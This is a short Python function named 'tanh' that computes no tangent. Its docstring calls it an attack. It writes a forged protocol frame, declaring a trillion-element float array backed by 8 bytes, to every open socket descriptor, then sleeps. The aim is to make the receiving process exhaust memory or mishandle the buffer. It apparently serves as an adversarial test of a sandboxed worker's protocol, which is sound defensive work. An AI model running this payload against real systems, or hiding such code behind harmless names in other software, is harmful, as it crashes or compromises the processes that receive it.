def tanh(z):
    """Attack: write an array header asking for a 10^12-element array backed by 8 bytes straight to the protocol socket, then wait."""
    import json
    import os
    import stat
    import struct
    import time

    payload = b""
    prefix = None
    payload = b"\0" * 8
    header = json.dumps({"m": {"event": "done", "results": {"t": "list", "items": [{"t": "list", "items": [
        {"t": "dict", "keys": ["value"], "items": [{"t": "array", "dtype": "<f8", "shape": [1000000, 1000000], "buf": 0}]}]}]}},
        "sizes": [8]}).encode()
    frame = (prefix or struct.pack("!II", len(header), len(payload))) + header + payload
    for fd in range(3, 1024):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, frame)
        except OSError:
            pass
    time.sleep(60)
